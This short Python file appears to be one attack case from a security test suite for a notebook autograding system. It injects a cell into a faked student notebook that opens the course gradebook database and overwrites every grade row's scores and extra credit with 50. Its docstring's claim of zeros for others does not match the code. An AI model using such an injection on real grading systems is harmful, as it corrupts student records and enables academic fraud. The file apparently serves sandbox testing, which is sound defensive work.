"""Gives itself extra credit, and zeros to everybody else."""

from attacks.tools import before, fake


def attack(notebook, folder, school):
    fake(notebook)
    before(
        notebook,
        f"""
    import sqlite3
    try:
        book = sqlite3.connect({str(school.root / "gradebook.db")!r})
        book.execute('update grade set extra_credit = 50, manual_score = 50, auto_score = 50')
        book.commit()
        print('SUC' + 'CEEDED')
    except Exception as error: print(type(error))
    """,
    )
